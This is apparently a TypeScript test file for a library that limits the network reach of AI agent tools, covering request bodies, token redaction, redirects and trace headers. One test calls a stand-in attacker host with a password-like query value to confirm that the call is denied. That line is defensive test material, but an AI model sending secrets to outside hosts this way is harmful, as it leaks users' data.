/** Libraries that ask an HttpClient ask the network of their tool: nothing goes where the tool may not. */
import { createServer, type ServerResponse } from "node:http"
import { AnthropicClient } from "@effect/ai-anthropic"
import {
  Cookies,
  HttpApi,
  HttpApiBuilder,
  HttpApiClient,
  HttpApiEndpoint,
  HttpApiGroup,
  HttpBody,
  HttpClient,
  HttpClientRequest,
  HttpServer
} from "@effect/platform"
import { NodeHttpServer } from "@effect/platform-node"
import { describe, expect, it } from "@effect/vitest"
import { Authority, Network, Policy, Registry, Tool, type ToolResult, Turn } from "bailiwick"
import { NodeNetwork } from "bailiwick/node"
import { absorbed, layerHttpClient, layerHttpClientFor, layerHttpClientTraced } from "bailiwick/platform"
import { Effect, Layer, Logger, Redacted, Schema, Stream } from "effect"
import { bodyOf, serve } from "../layers/network/fixture.js"

/** One call of a tool that holds all methods for the host of a server, over the layers of Node. */
const calling = <A, E>(port: number, execute: () => Effect.Effect<A, E, Network.Everything>) => {
  const tool = Tool.make({
    name: "client",
    description: "d",
    parameters: Schema.Struct({}),
    capabilities: { network: { allowedHosts: ["*"] } },
    execute: execute as () => Effect.Effect<A, never, Network.Everything>
  })
  const hosts = ["127.0.0.1", "localhost"]
  const policy = Policy.make({
    authority: Schema.decodeSync(Authority.FromJson)({
      network: { get: hosts, post: hosts, put: hosts, delete: hosts },
      private: { connect: hosts.map((host) => `${host}:${port}`) }
    })
  })
  return Registry.make(tool)
    .execute(Turn.make({ session: "s", policy, workdir: "/" }), [{ id: "1", name: "client", args: {} }])
    .pipe(
      Effect.map(([{ result }]): ToolResult.ToolResult => result),
      Effect.provide(NodeNetwork.layer()),
      Effect.provide(Logger.remove(Logger.defaultLogger))
    )
}

const get = (url: string) => Effect.flatMap(HttpClient.get(url), ({ text }) => text)

describe("an HttpClient over Network", () => {
  it.effect("sends bodies of every kind, with their types", () => {
    const sent: Array<string> = []
    const form = new FormData()
    form.set("name", "value")
    const stream = Stream.make("one ", "two").pipe(Stream.encodeText)
    const bodies: ReadonlyArray<HttpBody.HttpBody> = [
      HttpBody.empty,
      HttpBody.text("text"),
      HttpBody.unsafeJson({ a: 1 }),
      HttpBody.uint8Array(new Uint8Array([98, 99])),
      HttpBody.raw("raw", { contentType: "text/x" }),
      HttpBody.raw(new Uint8Array([100])),
      HttpBody.raw(new TextEncoder().encode("buffer").buffer),
      HttpBody.raw(new Blob(["blob"], { type: "text/blob" })),
      HttpBody.raw(new URLSearchParams({ q: "a b" })),
      HttpBody.raw(new Blob(["streamed"]).stream()),
      HttpBody.stream(stream, "text/y", 7),
      HttpBody.formData(form)
    ]
    const network = Network.mock((_, { body, headers }) => {
      expect(Object.keys(headers)).not.toContain("content-length")
      const text = new TextDecoder().decode(body)
      sent.push(`${(headers["content-type"] ?? "-").replace(/boundary=.*/, "boundary")}: ${text.slice(0, 8)}`)
      const boundary = /boundary=(.*)/.exec(headers["content-type"] ?? "")?.[1]
      if (boundary !== undefined) expect(text).toContain(`--${boundary}`)
      return ""
    })
    return Effect.gen(function* () {
      for (const body of bodies) {
        yield* HttpClient.execute(
          HttpClientRequest.post("https://a.com/").pipe(HttpClientRequest.setBody(body))
        )
      }
      expect(sent).toEqual([
        "-: ",
        "text/plain: text",
        'application/json: {"a":1}',
        "application/octet-stream: bc",
        "text/x: raw",
        "-: d",
        "-: buffer",
        "text/blob: blob",
        "application/x-www-form-urlencoded;charset=UTF-8: q=a+b",
        "-: streamed",
        "text/y: one two",
        `multipart/form-data; boundary: ${"------fo"}`
      ])
      const odd = HttpClientRequest.post("https://a.com/").pipe(
        HttpClientRequest.setBody(HttpBody.raw({ not: "a body" }))
      )
      expect((yield* Effect.flip(absorbed(HttpClient.execute(odd)))).message).toContain("encode it first")
    }).pipe(Effect.provide(layerHttpClient), Effect.provide(network))
  })

  it.effect("gives status, headers, cookies and body, read as often as one likes", () =>
    Effect.gen(function* () {
      const response = yield* HttpClient.get("https://a.com/", { urlParams: { q: "1" } })
      expect([response.status, response.headers["x-a"]]).toEqual([418, "https://a.com/?q=1"])
      expect(Cookies.toRecord(response.cookies)).toEqual({ a: "1", b: "2" })
      const all = [response.json, response.text, response.json]
      expect(yield* Effect.all(all, { concurrency: 3 })).toEqual([{ n: 1 }, '{"n":1}', { n: 1 }])
      expect(yield* Stream.runCount(response.stream)).toBe(1)
      expect(new Uint8Array(yield* response.arrayBuffer).length).toBe(7)
      const streamed = yield* HttpClient.get("https://a.com/")
      yield* Stream.runDrain(streamed.stream)
      const again = yield* Effect.flip(streamed.text)
      expect([again.reason, String(again.cause)]).toEqual([
        "Decode",
        expect.stringContaining("was read already")
      ])
    }).pipe(
      Effect.provide(layerHttpClient),
      Effect.provide(
        Network.mock((url) => ({
          status: 418,
          json: { n: 1 },
          headers: { "x-a": url },
          setCookies: ["a=1; Path=/", "b=2"]
        }))
      )
    )
  )

  it.effect("hides from records and results what the platform hides", () => {
    const seen: Array<unknown> = []
    return Effect.gen(function* () {
      const request = HttpClientRequest.get("https://a.com/").pipe(HttpClientRequest.bearerToken("t0ken"))
      yield* HttpClient.execute(request)
      expect(seen).toEqual([Redacted.make("Bearer t0ken")])
    }).pipe(
      Effect.provide(layerHttpClient),
      Effect.provide(
        Network.layer(() => {
          const { open, request } = Network.memory(() => "")
          return {
            request,
            open: (asked) => {
              seen.push(asked.headers.authorization)
              return open(asked)
            }
          }
        })
      )
    )
  })

  it.scoped("gives refusals back as they were, denial included", () =>
    Effect.gen(function* () {
      const served = yield* serve((_, response) => response.end("ok"))
      const refused = yield* calling(served.port, () =>
        get("https://attacker.example/?q=hunter2").pipe(absorbed, Effect.provide(layerHttpClient))
      )
      expect(refused).toMatchObject({
        ok: false,
        error: expect.stringMatching(/^HOST_NOT_ALLOWED: attacker\.example/),
        denial: { reason: "scope_violation", code: "HOST_NOT_ALLOWED" }
      })
      const malformed = yield* calling(served.port, () =>
        get("ftp://a.com/").pipe(absorbed, Effect.provide(layerHttpClient))
      )
      expect(malformed).toMatchObject({ ok: false, error: expect.stringMatching(/^URL_INVALID/) })
    })
  )

  it.scoped("for one host goes nowhere else, also not by a redirect", () =>
    Effect.gen(function* () {
      const seen: Array<string> = []
      const served = yield* serve(({ headers, url }, response) => {
        seen.push(String(headers.host))
        const to = `http://${url === "/away" ? "localhost" : "127.0.0.1"}:${served.port}/`
        if (url === "/") response.end("here")
        else response.writeHead(302, { location: to }).end()
      })
      const one = (url: string) =>
        calling(served.port, () => get(url).pipe(absorbed, Effect.provide(layerHttpClientFor("127.0.0.1"))))
      const at = `127.0.0.1:${served.port}`
      expect(yield* one(`http://${at}/`)).toEqual({ ok: true, value: "here" })
      expect(yield* one(`http://${at}/stay`)).toEqual({ ok: true, value: "here" })
      expect(yield* one(`http://${at}/away`)).toMatchObject({
        error: expect.stringMatching(/^REDIRECT_REFUSED/)
      })
      expect(yield* one(`http://localhost:${served.port}/`)).toMatchObject({
        error:
          "HOST_NOT_ALLOWED: this client is for 127.0.0.1 alone; make one for the other host, or use layerHttpClient"
      })
      expect(seen).toEqual([at, at, at, at])
    })
  )

  it.effect("tells no server of the traces of the host, unless it is asked to", () => {
    const names: Array<string> = []
    const network = Network.mock((_, { headers }) => {
      names.push(Object.keys(headers).sort().join(" "))
      return ""
    })
    const traced = Effect.withSpan(get("https://a.com/"), "outer")
    return Effect.gen(function* () {
      yield* Effect.provide(traced, layerHttpClient)
      yield* Effect.provide(traced, layerHttpClientFor("a.com"))
      yield* Effect.provide(traced, layerHttpClientTraced)
      expect(names).toEqual(["", "", "b3 traceparent"])
    }).pipe(Effect.provide(network))
  })

  it.scoped("lets go of what nobody reads when the call ends", () =>
    Effect.gen(function* () {
      const served = yield* serve((_, response) => response.flushHeaders())
      const url: string = served.url
      const result = yield* calling(served.port, () =>
        Effect.map(HttpClient.get(url), ({ status }) => status).pipe(
          absorbed,
          Effect.provide(layerHttpClient)
        )
      )
      expect(result).toEqual({ ok: true, value: 200 })
      yield* served.drained
    })
  )
})

describe("libraries that we did not write", () => {
  it.scoped("a client of a model streams an answer as it comes", () =>
    Effect.gen(function* () {
      const asked: Array<string> = []
      let answer: ServerResponse | undefined
      const event = (data: { readonly type: string }) =>
        `event: ${data.type}\ndata: ${JSON.stringify(data)}\n\n`
      const delta = (text: string) =>
        event({ type: "content_block_delta", index: 0, delta: { type: "text_delta", text } } as never)
      const served = yield* serve(async (request, response) => {
        asked.push(String(request.headers["x-api-key"]), await bodyOf(request))
        answer = response.writeHead(200, { "content-type": "text/event-stream" })
        response.write(delta("Hello"))
      })
      const seen: Array<string> = []
      const chat = Effect.gen(function* () {
        const client = yield* AnthropicClient.make({
          apiKey: Redacted.make("k3y-of-the-model"),
          apiUrl: served.url
        })
        yield* Stream.runForEach(
          client.createMessageStream({
            payload: { model: "m", max_tokens: 9, messages: [{ role: "user", content: "Hi" }] }
          }),
          (part) =>
            Effect.sync(() => {
              if (part.type !== "content_block_delta" || part.delta.type !== "text_delta") return
              seen.push(part.delta.text)
              // The last part is sent because the first has been read.
              if (seen.length === 1) answer?.end(delta(", world") + event({ type: "message_stop" }))
            })
        )
        return `${seen.join("")} (${asked[0]})`
      })
      const result = yield* calling(served.port, () =>
        Effect.scoped(chat).pipe(absorbed, Effect.provide(layerHttpClient))
      )
      expect(result).toEqual({ ok: true, value: "Hello, world ([redacted])" })
      expect(seen).toEqual(["Hello", ", world"])
      expect(JSON.parse(asked[1] ?? "")).toMatchObject({ stream: true, model: "m" })
    })
  )

  it.scoped("an HttpApiClient talks to its HttpApi", () =>
    Effect.gen(function* () {
      const Note = Schema.Struct({ id: Schema.Number, text: Schema.String })
      class Missing extends Schema.TaggedError<Missing>()("Missing", { id: Schema.Number }) {}
      const notes = HttpApiGroup.make("notes")
        .add(
          HttpApiEndpoint.get("find", "/notes/:id")
            .setPath(Schema.Struct({ id: Schema.NumberFromString }))
            .addSuccess(Note)
            .addError(Missing, { status: 404 })
        )
        .add(HttpApiEndpoint.post("write", "/notes").setPayload(Note).addSuccess(Note))
      const api = HttpApi.make("api").add(notes)
      const handlers = HttpApiBuilder.group(api, "notes", (handlers) =>
        handlers
          .handle("find", ({ path: { id } }) =>
            id === 1 ? Effect.succeed({ id, text: "milk" }) : Effect.fail(new Missing({ id }))
          )
          .handle("write", ({ payload }) => Effect.succeed({ ...payload, id: payload.id + 1 }))
      )
      const served = HttpApiBuilder.serve().pipe(
        Layer.provide(HttpApiBuilder.api(api).pipe(Layer.provide(handlers))),
        Layer.provideMerge(NodeHttpServer.layer(createServer, { port: 0, host: "127.0.0.1" }))
      )
      const context = yield* Layer.build(served)
      const { address } = yield* Effect.provide(HttpServer.HttpServer, context)
      const port = address._tag === "TcpAddress" ? address.port : 0
      const result = yield* calling(port, () =>
        Effect.gen(function* () {
          const client = yield* HttpApiClient.make(api, { baseUrl: `http://127.0.0.1:${port}` })
          const found = yield* client.notes.find({ path: { id: 1 } })
          const written = yield* client.notes.write({ payload: { id: 6, text: "eggs" } })
          const missing = yield* Effect.flip(client.notes.find({ path: { id: 2 } }))
          return [found, written, missing._tag]
        }).pipe(absorbed, Effect.provide(layerHttpClient))
      )
      expect(result).toEqual({
        ok: true,
        value: [{ id: 1, text: "milk" }, { id: 7, text: "eggs" }, "Missing"]
      })
    })
  )
})
